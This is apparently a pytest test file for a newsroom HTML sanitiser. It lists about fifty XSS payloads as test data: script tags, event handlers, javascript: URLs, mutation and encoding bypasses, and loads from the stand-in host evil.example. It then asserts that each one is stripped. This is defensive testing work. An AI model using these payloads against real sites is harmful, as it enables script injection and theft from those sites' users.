"""Nothing that runs, looks like something else or calls home gets through."""

from html.parser import HTMLParser

import pytest

from newsroom.richtext import sanitise
from newsroom.richtext.presets import PRESETS, allow_list

ATTACKS = [
    "<script>steal()</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<SCRIPT/XSS SRC='//evil.example'></SCRIPT>",
    "<img src=x onerror=steal()>",
    "<img src='/media/a.jpg' onload=steal() style=position:fixed>",
    "<img src='/media/a.jpg' srcset='//evil.example/x 2x' longdesc=javascript:steal()>",
    "<img src=`javascript:steal()`>",
    "<img src='/media/a.jpg\"onerror=steal()//'>",
    "<svg onload=steal()><desc><p>x</p></desc></svg>",
    "<svg><a xlink:href='javascript:steal()'><text>x</text></a></svg>",
    "<svg><script>steal()</script></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=1&gt;'>",
    "<math href='javascript:steal()'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=steal()>'></textarea>",
    "<title><img title='</title><img src=x onerror=steal()>'></title>",
    "<template><script>steal()</script></template>",
    "<xmp><img src=x onerror=steal()></xmp>",
    "<iframe src='javascript:steal()'>x</iframe>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data='data:text/html,x'><embed src='//evil.example/x.swf'></object>",
    "<embed src='javascript:steal()'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
    "<base href='//evil.example/'><a href=x>y</a>",
    "<style>p{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)' class='story-headline' id=main>x</p>",
    "<div onclick=steal() onpointerenter=steal() data-action=pay tabindex=0>x</div>",
    "<a href='javascript:steal()' target=_top ping='//evil.example'>x</a>",
    "<a href=' &#14; javascript:steal()'>x</a>",
    "<a href='jav&#x09;ascript:steal()'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href=\"https://a.example/'onclick='steal()\">x</a>",
    "<form action='//evil.example'><input name=pass><button formaction=javascript:x>go</button>",
    "<details open ontoggle=steal()><summary>x</summary></details>",
    "<video src=x onerror=steal()><source onerror=steal()></video><audio autoplay src=x></audio>",
    "<picture><source srcset='//evil.example/x'><img src='//evil.example/y'></picture>",
    "<table background='//evil.example/x'><tr><td background='javascript:steal()'>x</table>",
    "<body onload=steal()><bgsound src='javascript:steal()'><p>x",
    "<!--[if gte IE 4]><script>steal()</script><![endif]-->",
    "<![CDATA[<img src=x onerror=steal()>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml' onclick=steal()>x</x>",
    "<p lang='x\" onclick=\"steal()' dir='ltr onclick=x'>x</p>",
    "<blockquote class='pullquote evil' cite='javascript:steal()'>x</blockquote>",
    "<td colspan='2 onclick=x'>x</td><table><td colspan='-1' rowspan='9999999999'>x</table>",
    "<ol start='1e9' type='javascript:x'><li value=x>x</ol>",
    "<x-evil is=script>x</x-evil><isindex action=javascript:steal()>",
    "\x00<\x00script\x00>steal()</script>",
    "<a\x0bhref=javascript:steal()>x</a>",
]


class Elements(HTMLParser):
    """Collects every element and attribute of what it is fed, and anything that is neither."""

    def __init__(self, html):
        super().__init__()
        self.found, self.other = [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_other(self, data):
        self.other.append(data)

    handle_comment = handle_decl = handle_pi = unknown_decl = handle_other


@pytest.mark.parametrize("preset", PRESETS)
@pytest.mark.parametrize("html", ATTACKS)
def test_only_what_the_preset_allows_is_left(html, preset):
    allowed = allow_list(preset)
    elements = Elements(sanitise(f"<p>before</p>{html}<p>after</p>", preset))

    assert elements.other == []
    for tag, attributes in elements.found:
        assert tag in allowed.tags
        classes = allowed.classes.get(tag, set())
        assert attributes.pop("class", None) in {None, *classes}
        assert attributes.keys() <= allowed.attributes[tag]
        assert attributes.get("href", "/").startswith(("/", "https://a.example/", "x"))
        assert attributes.get("src", "/media/").startswith("/media/")
        assert attributes.get("lang", "he") == "he"
        assert all(attributes.get(name, "2").isdigit() for name in ("colspan", "rowspan", "start"))


@pytest.mark.parametrize("html", ATTACKS)
def test_no_code_is_left_as_text_of_the_page_by_script_or_style(html):
    cleaned = sanitise(f"<p>before</p>{html}")

    assert "before" in cleaned
    assert "<script" not in cleaned
    assert "style" not in cleaned
